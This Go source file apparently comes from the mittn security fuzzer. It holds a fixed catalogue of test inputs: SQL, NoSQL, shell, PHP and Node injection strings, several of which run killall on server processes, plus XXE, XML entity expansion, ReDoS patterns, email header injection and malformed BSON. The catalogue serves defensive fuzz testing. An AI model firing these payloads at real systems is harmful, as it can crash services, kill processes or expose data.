// Package catalogue holds the static anomaly catalogue: a fixed list
// of values chosen to provoke a detectable failure at the target, or
// to probe injection-prone subsystems (SQL, NoSQL, shells, PHP
// wrappers, OAuth, XML parsers, and so on).
//
// Entries are data, not code: nothing here reads a config file or
// takes a parameter, so the catalogue is identical across runs and
// across processes. Anomaly selection (which entries apply to which
// key) is the mutator and injector's job, not this package's.
package catalogue

import (
	"math"
	"strings"

	"github.com/WithSecureOpenSource/mittn/value"
)

// Anomalies is the full static catalogue, in a fixed order. Treat it
// as read-only: callers that need a working copy should hold onto a
// derived anomaly map instead of mutating this slice.
var Anomalies = buildAnomalies()

func buildAnomalies() []value.Value {
	var out []value.Value
	str := func(s string) { out = append(out, value.Str(s)) }
	raw := func(b []byte) { out = append(out, value.Bytes(b)) }

	// Valid cases: a harmless baseline and a non-ASCII string, so the
	// catalogue alone can exercise the valid-case path.
	str("A harmless string")
	str("åäö")

	// SQL and NoSQL injections.
	str("' --")
	str("' or 'x'='x' --")
	str("' or 1=1 --")
	str("1 OR 1=1 --")
	str("'; select datname from pg_database; --")
	str(`\''; select datname from pg_database; --`)
	str("&apos;&59; select datname from pg_database&59; --")
	str("'; SHOW DATABASES; --")
	str(`\''; SHOW DATABASES; --`)
	str("&apos;&59; SHOW DATABASES&59; --")
	str("'; select global_name from global_name; --")
	str(`\''; select global_name from global_name; --`)
	str("&apos;&59; select global_name from global_name&59; --")
	str("'; select * from SQLITE_MASTER; --")
	str(`\''; select * from SQLITE_MASTER; --`)
	str("&apos;&59; select * from SQLITE_MASTER&59; --")
	str("'; select @@version; --")
	str(`\''; select @@version; --`)
	str("&apos;&59; select @@version&59; --")
	str(`/, "_id": /.*`)
	str(`.*/, $where : function() { sleep(1000000) }, "_id": /.*`)
	str(`{ $ne : ""}`)
	str(`{ $where : function() { sleep(1000000) } }`)
	str(`/.*/`)
	str("\nFLUSHALL")
	str("\r\nFLUSHALL\r\n")
	str("\"\n  while true do\n  end\nfoo=\"")
	str("'\n  while true do\n  end\nfoo='")
	str("_rev")
	str(`", "map":"function(map) { while(1); }", "`)
	str(`function(map) { while(1); }`)
	str("\")\nLOAD CSV FROM \"/dev/urandom\" AS line //")
	str("')\nLOAD CSV FROM '/dev/urandom' AS line //")

	// Regular expression denial of service.
	str(`(?R)*`)
	str(`\g<0>*`)
	str(`(?0)*`)

	// Shell injection.
	str("`cat /dev/zero`")
	str("| cat /dev/zero;")
	str("< /dev/zero;")
	str("> /dev/null;")
	str(strings.Repeat("../", 15) + "dev/zero")
	str("`killall -g apache php nginx python perl node postgres bash`")
	str("| killall -g apache php nginx python perl node postgres bash;")
	str("`ping localhost`")
	str("' . `killall -g apache php nginx python perl node postgres bash` . '")
	str(`" . ` + "`killall -g apache php nginx python perl node postgres bash`" + ` . "`)
	str("expect://killall%20-g%20apache%20php")
	str("ssh2.exec://localhost/killall%20-g%20apache%20php")
	str("php://filter/resource=/dev/zero")
	str("compress.zlib:///dev/zero")
	str("glob://*")
	str(`" . system('killall -g apache php nginx python perl node postgres bash'); . "`)
	str(`' . system('killall -g apache php nginx python perl node postgres bash'); . '`)
	str(`require('assert').fail(0,1,'Node injection','');`)
	str(`var sys = require('assert'); sys.fail(0,1,'Node injection','');`)
	str(`var exec = require('child_process').exec; exec('ping 127.0.0.1');`)
	str(`'; var exec = require('child_process').exec; exec('ping 127.0.0.1');`)
	str(`() { :;}; exit`)
	str(`() { :;}; cat /dev/zero`)

	// PHP injection.
	str(`<?php exit(1) ?>`)
	str(`><?php exit(1) ?>`)
	str(`?>`)
	str(`<?php`)

	// URI-scheme injections.
	str("javascript:sleep(1000000)")
	str("data:text/plain;charset=utf-8;base64,UE9TU0lCTEVfSU5KRUNUSU9OX1BST0JMRU0=")
	str("data:application/javascript;charset=utf-8;base64,c2xlZXAoMTAwMDAwMCkK")
	str("data:text/html;charset=utf-8;base64,PGh0bWw+PHNjcmlwdD5hbGVydCgwKTwvc2NyaXB0PjwvaHRtbD4=")
	str("tel:+358407531918")
	str("sms:+358407531918")
	str("mailto:injections@example.invalid")
	str("netdoc:///dev/zero")
	str("jar:///dev/zero!/foo")
	str("file:///dev/zero")

	// Stuff that tries to confuse broken OAuth processing.
	str("eyJhbGciOiJub25lIn0K.eyJyZnAiOiJtaXR0biIsCiJ0YXJnZXRfdXJpIjoiaHR0cDovL21pdHRuLm9yZyJ9Cg==.")
	str("redirect_uri")
	str("state")
	str("&access_token=DUMMY_TOKEN&")
	str("?access_token=DUMMY_TOKEN&")
	str("&redirect_uri=http://example.invalid/attack&")
	str("?redirect_uri=http://example.invalid/attack&")

	// Timestamps.
	str("1969-12-31T11:59:59.99Z")
	str("1969-12-31T23:59:59.99-25:00")
	str("1969-12-31T23:59:59.99+25:00")
	str("2273-01-01T12:00:00.00Z")

	// Important numbers.
	out = append(out, value.Int(-1))
	str("-1")
	out = append(out, value.Int(0))
	str("0")
	out = append(out, value.Int(1))
	out = append(out, value.Int(2))
	out = append(out, value.Int(1<<8))
	out = append(out, value.Int(-(1 << 8)))
	out = append(out, value.Int(1<<16))
	out = append(out, value.Int(-(1 << 16)))
	out = append(out, value.Int(1<<32))
	out = append(out, value.Int(-(1 << 32)))
	out = append(out, value.Int(-(1<<53)))     // I-JSON "safe integer" limit minus one
	out = append(out, value.Int(1<<53))        // I-JSON "safe integer" limit plus one
	raw([]byte(pow2(256)))                     // beyond int64: kept as its decimal digits
	str(pow2(256))
	raw([]byte("-" + pow2(256)))
	str("-" + pow2(256))
	out = append(out, value.Float(1e-16))
	out = append(out, value.Float(1e-32))
	out = append(out, value.Float(3.141592653589793238462643383279)) // more precision than a float64 holds
	str("\n1")
	str("1\n")
	out = append(out, value.Float(2.2250738585072011e-308)) // CVE-2010-4645
	str("2.2250738585072011e-308")
	out = append(out, value.Float(math.Inf(1)))
	out = append(out, value.Float(math.Inf(-1)))
	out = append(out, value.Float(math.NaN()))

	// Truth values and the absence of one.
	out = append(out, value.Bool(true))
	out = append(out, value.Bool(false))
	out = append(out, value.Null())
	out = append(out, value.Seq())
	out = append(out, value.Map())

	// Strings.
	str("")
	str("\n")
	str("\r\n")
	str("\n\r")
	str(";")
	str("{{")
	str("}}")
	str(`"`)
	str("'")
	str("/*")
	str("#")
	str("//")
	str("%")
	str("--")
	str("?#")
	raw([]byte{0x00})
	raw(append([]byte{0x00}, []byte("xxxxxxxx")...))
	raw([]byte{0x1a})
	raw([]byte{0xff, 0xfe})
	raw([]byte{0xff, 0xff})
	str("\t")
	str(xmlEntityExpansion())
	str(`<?xml version="1.0" encoding="utf-8"?><!DOCTYPE foo [<!ENTITY bar SYSTEM "file:///dev/zero">]><foo>&bar;</foo>`)
	raw([]byte(brokenBSON1))
	raw([]byte(brokenBSON2))
	raw([]byte(brokenBSON3))
	raw([]byte(brokenBSON4))

	// Format strings.
	str("%s")
	str("%d")

	// ANSI escape injection: unlikely to trip the classifier, but
	// worth sending in case a log viewer is watching.
	str(ansiBanner)
	str("\x1b[2JPOSSIBLE_INJECTION_PROBLEM")
	str(strings.Repeat("\x07", 15))

	// Email header injection.
	str("root@[127.0.0.1]")
	str("root@localhost")
	str("@example.invalid")
	str("@")
	str("nobody@example.invalid\nCc:nobodyneither@example.invalid")
	str("nobody@example.invalid\r\nCc:nobodyneither@example.invalid")
	str("\r\n.\r\n\r\nMAIL FROM:<root>\r\nRCPT TO:<nobody@example.invalid>\r\nDATA\r\nPOSSIBLE_INJECTION_PROBLEM\r\n.\r\n")

	// Long strings.
	str(strings.Repeat("A", 256))
	str(strings.Repeat("A", 1025))
	str(strings.Repeat("A", 65537))
	str(strings.Repeat(":-) =) XD o_O", 10000))
	str(strings.Repeat("A", 1024*1024))

	return out
}

// pow2 renders 2**n in decimal without relying on a numeric type that
// can hold it; n is assumed small and non-negative.
func pow2(n int) string {
	digits := []int{1}
	for ; n > 0; n-- {
		carry := 0
		for i, d := range digits {
			v := d*2 + carry
			digits[i] = v % 10
			carry = v / 10
		}
		for carry > 0 {
			digits = append(digits, carry%10)
			carry /= 10
		}
	}
	b := make([]byte, len(digits))
	for i, d := range digits {
		b[len(digits)-1-i] = byte('0' + d)
	}
	return string(b)
}

func xmlEntityExpansion() string {
	exp := `<?xml version="1.0"?><!DOCTYPE exp [ <!ENTITY exp "exp">`
	exp += `<!ENTITY expa "` + strings.Repeat("&exp;", 100) + `">`
	exp += `<!ENTITY expan "` + strings.Repeat("&expa;", 100) + `">`
	exp += `<!ENTITY expand "` + strings.Repeat("&expan;", 100) + `"> ]><exp>&expand;</exp>`
	return exp
}

const ansiBanner = "\x1b[0;1;40;32mM\x1b[0m   \x1b[1;32mM\x1b[0m \x1b[1;31mIII\x1b[32m TTT\x1b[0m \x1b[31mTTT\x1b[37m \x1b[1;34mN\x1b[0m  \x1b[1;34mN\r\n" +
	"\x1b[32mMM\x1b[0m \x1b[1;32mMM\x1b[0m  \x1b[1;31mI\x1b[0m   \x1b[1;32mT\x1b[0m   \x1b[31mT\x1b[37m  \x1b[1;34mNN\x1b[0m \x1b[1;34mN\r\n" +
	"\x1b[32mM\x1b[0m \x1b[1;32mM\x1b[0m \x1b[1;32mM\x1b[0m  \x1b[1;31mI\x1b[0m   \x1b[1;32mT\x1b[0m   \x1b[31mT\x1b[37m  \x1b[1;34mN\x1b[0m \x1b[1;34mNN\r\n" +
	"\x1b[32mM\x1b[0m   \x1b[1;32mM\x1b[0m  \x1b[1;31mI\x1b[0m   \x1b[1;32mT\x1b[0m   \x1b[31mT\x1b[37m  \x1b[1;34mN\x1b[0m \x1b[1;34mNN\r\n" +
	"\x1b[32mM\x1b[0m   \x1b[1;32mM\x1b[0m \x1b[1;31mIII\x1b[0m  \x1b[1;32mT\x1b[0m   \x1b[31mT\x1b[37m  \x1b[1;34mN\x1b[0m  \x1b[1;34mN\r\n\x1a"

// Broken BSON fragments: a valid-looking document header with one
// field deliberately mangled (bad boolean tag, overflowing embedded
// document length, overflowing string length, missing terminator).
var (
	brokenBSON1 = "c\x00\x00\x00\x0Djavascript_code\x00\x09\x00\x00\x00alert(1)\x00\x01float\x00\x00\x00\x00\x00\x00\x00E@\x08Boolean\x00\x02\x04array\x00\x05\x00\x00\x00\x00\nNull\x00\x02unicodestring\x00\x02\x00\x00\x00\x00\x00\x00"
	brokenBSON2 = "c\x00\x00\x00\x0Djavascript_code\x00\x09\x00\x00\x00alert(1)\x00\x01float\x00\x00\x00\x00\x00\x00\x00E@\x08Boolean\x00\x01\x04array\x00\x06\x00\x00\x00\x00\nNull\x00\x02unicodestring\x00\x02\x00\x00\x00\x00\x00\x00"
	brokenBSON3 = "c\x00\x00\x00\x0Djavascript_code\x00\x09\x00\x00\x00alert(1)\x00\x01float\x00\x00\x00\x00\x00\x00\x00E@\x08Boolean\x00\x01\x04array\x00\x05\x00\x00\x00\x00\nNull\x00\x02unicodestring\x00\x03\x00\x00\x00\x00\x00\x00"
	brokenBSON4 = "c\x00\x00\x00\x0Djavascript_code\x00\x09\x00\x00\x00alert(1)\x00\x01float\x00\x00\x00\x00\x00\x00\x00E@\x08Boolean\x00\x01\x04array\x00\x05\x00\x00\x00\x00\nNull\x00\x02unicodestring\x00\x02\x00\x00\x00\x00\x00" + strings.Repeat("A", 116)
)
